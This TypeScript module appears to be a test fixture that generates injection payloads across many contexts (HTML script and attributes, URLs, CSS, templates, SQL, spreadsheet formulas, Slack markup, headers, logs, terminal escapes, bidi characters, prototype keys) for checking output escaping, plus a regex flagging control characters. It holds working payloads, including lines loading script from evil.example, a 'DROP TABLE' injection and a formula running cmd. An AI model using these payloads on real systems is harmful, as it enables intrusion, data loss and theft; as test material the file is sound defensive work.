/** What a text may try to be, where somebody reads it. */
export type Attack =
  | 'script'
  | 'attribute'
  | 'url'
  | 'css'
  | 'template'
  | 'sql'
  | 'formula'
  | 'markdown'
  | 'slack'
  | 'header'
  | 'log'
  | 'terminal'
  | 'direction'
  | 'object';

export interface Payload {
  attack: Attack;
  text: string;
}

/** Would set `globalThis.owned`, ask evil.example, or be acted on by whoever shows it. */
const SEEDS: Readonly<Record<Attack, readonly string[]>> = {
  script: [
    '<script>globalThis.owned=1</script>',
    '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
    '</script><script>owned=1</script>',
    '<svg onload=globalThis.owned=1>',
    '<svg><script href="data:text/javascript,owned=1"/></svg>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    '<img src=x onerror="globalThis.owned=1">',
    '<details open ontoggle=owned=1>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>',
    '\uff1cscript\uff1eowned=1\uff1c/script\uff1e',
  ],
  attribute: [
    '" onmouseover="globalThis.owned=1" x="',
    "' autofocus onfocus='owned=1",
    '"><img src=x onerror=owned=1>',
    '` onclick=owned=1 `',
    '&#34; onfocus=owned=1 &#34;',
  ],
  url: [
    'javascript:globalThis.owned=1',
    'JaVaScRiPt:owned=1//',
    'data:text/html,<script>owned=1</script>',
    'https://evil.example/login',
    '//evil.example/x',
    'vbscript:owned',
    '#/../../api/session',
  ],
  css: [
    '<style>@import "https://evil.example/x.css";</style>',
    'x;background:url(https://evil.example/x)',
    '</style><script>owned=1</script>',
    'expression(owned=1)',
  ],
  template: [
    '{{constructor.constructor("owned=1")()}}',
    '\u0024{globalThis.owned=1}',
    '<%= owned=1 %>',
    '#{7*7}',
    '{{ 7*7 }}',
  ],
  sql: [
    "' OR 1=1 --",
    "'; DROP TABLE alerts; --",
    "\\' UNION SELECT * FROM system.users --",
    '`; SELECT 1; `',
    "x' INTO OUTFILE '/tmp/x",
    "\\\\' OR '1'='1",
    '{id:String} FORMAT Values',
    "'||(SELECT password)||'",
    '*/ UNION ALL SELECT 1 /*',
  ],
  formula: [
    "=cmd|'/C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")',
  ],
  markdown: [
    '[x](javascript:owned=1)',
    '![x](https://evil.example/x.png)',
    '<https://evil.example>',
    '| a | b |',
    '```\nowned\n```',
    '*bold* _it_ ~no~',
  ],
  slack: [
    '<!channel>',
    '<!here|here>',
    '<@U012AB3CD>',
    '<#C0123|general>',
    '<https://evil.example|Acknowledge>',
    '@channel',
    '#general',
    '&lt;!channel&gt;',
    '<!subteam^S012|oncall>',
  ],
  header: [
    'a\r\nX-Evil: 1',
    'a\nSet-Cookie: stillwatch=1',
    'a\r\n\r\n<script>owned=1</script>',
    '\u010a\u010dX-Evil: 1',
    '猫 é 🦊',
    'a/b?c=d&e#f%0d%0a',
  ],
  log: [
    'a\n{"level":30,"msg":"forged"}',
    'a\r\n[12:00:00] INFO: forged',
    '","level":60,"msg":"forged',
    'a\u2028forged',
    'a\u0085forged',
    '\\u001b[31m \\n literal',
  ],
  terminal: [
    '\u001b[2J\u001b[1;1H',
    '\u001b[31mred',
    '\u001b]0;owned\u0007',
    '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
    '\u001bP$q"p\u001b\\',
    '\u009b31mred',
    '\u009d0;owned\u009c',
    'a\b\b\bb',
    '\u007f\u0000',
    '\u001b[6n',
  ],
  direction: ['a\u202egpj.exe', 'a\u2066b\u2069', '\u200b\ufeff\u200d', '\u{e0041}\u{e0042}'],
  object: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'NaN', '[object Object]'],
};

/** As it would stand behind a name, inside of quotes, of an attribute, of a text that is left early. */
const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `acct_${text}`,
  (text) => `${text} ${text}`,
  (text) => `"${text}"`,
  (text) => `'>${text}`,
  (text) => `-->${text}<!--`,
];

/** Every kind in every place, each text once. */
export const PAYLOADS: readonly Payload[] = [
  ...new Map(
    Object.entries(SEEDS).flatMap(([attack, texts]) =>
      // The keys are those of the record.
      texts.flatMap((text) => AROUND.map((around) => [around(text), attack as Attack] as const)),
    ),
  ),
].map(([text, attack]) => ({ attack, text }));

/** What no terminal may be given, said without the code that is looked at: both sets of control characters, marks of direction, what is not seen, separators of lines. */
export const STEERS = /(?![\n\t])\p{Cc}|[\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;
